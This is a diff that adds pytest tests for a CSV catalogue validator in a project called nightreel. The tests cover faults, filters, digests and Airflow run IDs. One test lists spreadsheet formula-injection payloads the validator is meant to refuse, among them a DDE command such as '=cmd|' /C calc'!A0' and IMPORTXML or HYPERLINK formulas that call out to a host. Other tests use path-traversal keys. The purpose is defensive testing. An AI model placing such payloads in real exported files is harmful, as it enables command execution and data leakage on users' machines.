@@ -2,6 +2,15 @@
 
 from __future__ import annotations
 
+import re
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from nightreel.batch.rows import CheckedRow, key_slug, run_id_of
+from nightreel.errors import NightreelError, SpecError
+
 
 def test_a_row_becomes_a_brief(check):
     done = check("sku,title,Selling points,parameters.battery,price\nW-1,Aurora,Light|Bright,14 days,99\n")
@@ -18,3 +27,153 @@ def test_one_bad_row_fails_alone(check):
     (fault,) = done.rows[1].faults
     assert (fault.code, fault.where) == ("brief.duration_s", "catalogues/spring.csv:3, column duration_s")
     assert (fault.got, fault.want) == ("long", "a number")
+
+
+def test_every_fault_of_a_row_is_told_with_its_column(check):
+    done = check(
+        "sku,Name,seconds,style,platforms,pictures,language\nW-1,,300,cartoony,youtub,../x.png|gone.png,fr\n",
+        "columns: {title: Name, duration_s: seconds}",
+    )  # fmt: skip
+    assert done.told() == [
+        "brief.title catalogues/spring.csv:2, column Name",
+        "brief.style catalogues/spring.csv:2, column style",
+        "brief.duration_s catalogues/spring.csv:2, column seconds",
+        "brief.language catalogues/spring.csv:2, column language",
+    ]
+    done = check("sku,title,platforms,pictures\nW-1,A,youtub,../x.png|gone.png\n")
+    assert done.told() == [
+        "platform.name catalogues/spring.csv:2, column platforms",
+        "path.outside catalogues/spring.csv:2, column pictures",
+        "path.missing catalogues/spring.csv:2, column pictures",
+    ]
+    assert done.rows[0].faults[0].fix == "write youtube instead of youtub"
+
+
+def test_a_second_row_of_a_key_names_the_first(check):
+    done = check("sku,title\nW-1,A\nW-2,B\nW-1,C\n")
+    assert done.states == ["ready", "ready", "duplicate"]
+    assert done.rows[2].faults[0].got == "W-1 again, as in line 2"
+
+
+@pytest.mark.parametrize("key", ["", " ", "x" * 201, "a\u202eb", "=A1", '"a\nb"'])
+def test_a_key_that_is_none_is_the_rows_fault(check, key):
+    done = check(f"sku,title\n{key},Aurora\nW-2,Boreal\n")
+    assert done.states == ["wrong", "ready"]
+    assert done.told(0)[0].endswith("spring.csv:2, column sku")
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["=HYPERLINK(\"http://x\";\"y\")", "=1+2", "=A1", "=cmd|' /C calc'!A0", "+SUM(A1:A9)", "@SUM(1)", "-A1+B2",
+     "+A1:B9", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "＝1+1", "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")"],
+)  # fmt: skip
+def test_a_formula_is_refused(check, text):
+    quoted = text.replace('"', '""')
+    done = check(f'sku,title,slogan\nW-1,Aurora,"{quoted}"\nW-2,Boreal,Fine\n')
+    assert done.states == ["wrong", "ready"]
+    (fault,) = done.rows[0].faults
+    assert (fault.code, fault.where) == ("catalogue.formula", "catalogues/spring.csv:2, column slogan")
+    assert fault.refused
+    assert "copy and paste as values" in fault.fix
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["-5", "+49 30 1234", "- light as a feather", "-20 % this week", "@lumen", "+5 years", "-", "--", "a=b", "= ", "=",
+     "-10 °C to +40 °C", "@home: a watch", "+1", "-A4 paper", "'=1+1", "==== new ===="],
+)  # fmt: skip
+def test_text_that_begins_like_a_formula_is_text(check, text):
+    done = check(f'sku,title,slogan\nW-1,Aurora,"{text}"\n')
+    assert done.states == ["ready"], done.rows[0].faults
+    assert done.rows[0].brief["slogan"] == text.strip()
+
+
+def test_a_refused_row_says_which_rule(check):
+    done = check("sku,title,selling_points\nW-1,Aurora,Light|Cocaine delivered to your door\nW-2,Boreal,Light\n")
+    assert done.states == ["wrong", "ready"]
+    (fault,) = done.rows[0].faults
+    assert fault.code.startswith("safety.")
+    assert fault.where == "catalogues/spring.csv:2, column selling_points"
+    assert fault.refused
+
+
+def test_filters_and_a_limit_leave_rows_out(check):
+    done = check(
+        'sku,title,film,price\nA,a,yes,5\nB,b,no,50\nC,c,YES ,"50,5"\nD,d,,70\nE,e,yes,\n'
+        "F,f,yes,80 €\nG,g,yes,90\nH,h,yes,cheap\n",
+        "where: [{column: film, is: [yes]}, {column: price, min: 10}]", "limit: 3",
+    )  # fmt: skip
+    assert [(row.key, row.state) for row in done.rows] == [
+        ("A", "filtered"), ("B", "filtered"), ("C", "ready"), ("D", "filtered"), ("E", "filtered"), ("F", "ready"),
+        ("G", "ready"), ("H", "filtered"),
+    ]  # fmt: skip
+    assert done.check.filtered == 5
+
+
+def test_a_filter_that_compares_asks_for_a_number(check):
+    done = check("sku,title,price\nA,a,cheap\nB,b,12\n", "where: [{column: price, min: 10, max: 20}]")
+    assert done.states == ["wrong", "ready"]
+    assert done.told(0)[0] == "catalogue.number catalogues/spring.csv:2, column price"
+
+
+def test_nothing_is_left_where_filters_take_everything(check):
+    done = check("sku,title,film\nA,a,no\n", "where: [{column: film, not: [no]}]")
+    assert done.check.notes == ("Every row is left out by where:.",)
+
+
+def test_too_many_rows_are_refused(check, monkeypatch):
+    monkeypatch.setattr("nightreel.batch.rows.MAX_ROWS", 3)
+    with pytest.raises(SpecError, match=r"\[catalogue\.rows\] catalogues/spring\.csv:5: got more than 3 rows"):
+        check("sku,title\n" + "".join(f"W-{at},T\n" for at in range(9)))
+
+
+def test_a_digest_is_of_what_the_row_says_and_of_nothing_else(check):
+    plain = check("sku,title,slogan\nW-1,Aurora,Light\n").rows[0]
+    moved = check("note,slogan,title,price,sku\nnew!,Light,Aurora,99,W-1\n").rows[0]
+    other = check("sku,title,slogan\nW-1,Aurora,Bright\n").rows[0]
+    assert plain.digest == moved.digest
+    assert plain.digest != other.digest
+    assert plain.digest != check("sku,title,slogan\nW-2,Aurora,Light\n").rows[0].digest
+
+
+def test_a_digest_is_of_the_files_that_a_row_names(check, write_tenant):
+    media = write_tenant().root / "media" / "a.png"
+    media.write_bytes(b"one")
+    first = check("sku,title,pictures\nW-1,Aurora,a.png\n").rows[0]
+    media.write_bytes(b"two")
+    assert check("sku,title,pictures\nW-1,Aurora,a.png\n").rows[0].digest != first.digest
+
+
+ALLOWED = re.compile(r"^[A-Za-z0-9_.~:+-]+$")
+
+
+@pytest.mark.parametrize("key", ["W-1", "a b", "../../etc", "手表", "x" * 200, "a.b", "%2e", "👩‍🚀", "A", "a"])
+def test_a_runs_id_is_one_that_airflow_takes(key):
+    row = CheckedRow(number=2, key=key, digest="ab" * 32)
+    run_id = run_id_of("t" * 63, "p" * 63, row, "2026-11-22", 2)
+    assert ALLOWED.fullmatch(run_id)
+    assert len(run_id) <= 250
+    assert run_id.endswith(".abababab.2026-11-22.2")
+    assert run_id == run_id_of("t" * 63, "p" * 63, row, "2026-11-22", 2)
+
+
+def test_a_plain_key_stands_in_the_id_as_it_is():
+    row = CheckedRow(number=2, key="W-1", digest="ab" * 32)
+    assert run_id_of("acme", "teaser", row, "2026-11-22") == "nightly__acme.teaser.W-1.abababab.2026-11-22"
+
+
+@given(keys=st.lists(st.text(min_size=1, max_size=60), min_size=2, max_size=20, unique=True))
+def test_other_keys_have_other_slugs(keys):
+    slugs = [key_slug(key) for key in keys]
+    assert len(set(slugs)) == len(slugs)
+    assert all(re.fullmatch(r"[A-Za-z0-9_-]{1,40}", slug) for slug in slugs)
+
+
+@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
+@given(data=st.binary(max_size=400))
+def test_any_bytes_are_rows_or_one_of_our_errors(check, data):
+    try:
+        rows = check(b"sku,title,pictures\n" + data).rows
+    except NightreelError:  # anything else fails the test
+        rows = []
+    assert all(row.faults for row in rows if row.state == "wrong")
